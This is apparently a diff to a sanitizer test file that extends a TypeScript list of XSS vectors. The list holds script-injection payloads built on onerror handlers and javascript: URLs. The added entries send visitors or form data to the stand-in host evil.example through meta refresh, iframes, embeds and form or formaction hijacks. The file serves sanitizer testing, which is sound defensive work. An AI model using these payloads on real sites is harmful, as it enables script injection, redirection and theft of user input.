@@ -47,6 +47,18 @@ export const xssVectors: readonly string[] = [
   `<svg><x-card><style><img src=x onerror=${RUN}></style></x-card></svg>`,
   `<math><mtext><x-card><mglyph><style><img src=x onerror=${RUN}></style></mglyph></x-card></mtext></math>`,
   `<x-card><form><x-card><input name=attributes><button formaction=javascript:${RUN}>B</button></x-card></form></x-card>`,
+  // Redirects, styles and embeds within what the site could have written itself.
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta name="referrer" content="unsafe-url">',
+  '<style>main{display:none}</style><link rel="prefetch" href="https://evil.example/"><base target="x">',
+  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe><iframe src="https://evil.example/"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"><embed src="https://evil.example/"></object>`,
+  '<portal src="https://evil.example/"></portal><frameset><frame src="https://evil.example/"></frameset>',
+  // Forms and windows that another site controls.
+  '<form action="https://evil.example/" method="post"><input name="email"><button>Send</button></form>',
+  '<form><button formaction="https://evil.example/">Send</button><input type="submit" formaction="//evil.example"></form>',
+  '<input form="newsletter" type="image" src="a.png" formaction="https://evil.example/">',
+  '<a href="https://evil.example/" target="_blank" rel="opener">1</a><a href="/" target="x" rel="NoReferrer&#9;OPENER">2</a>',
+  '<form action="/search" target="_blank" rel="opener"><button formtarget="x">Search</button></form>',
   // Event handlers.
   `<img src=x onerror=${RUN}><image src=x onerror=${RUN}><body onload=${RUN}>`,
   `<details open ontoggle=${RUN}><summary>S</summary></details>`,
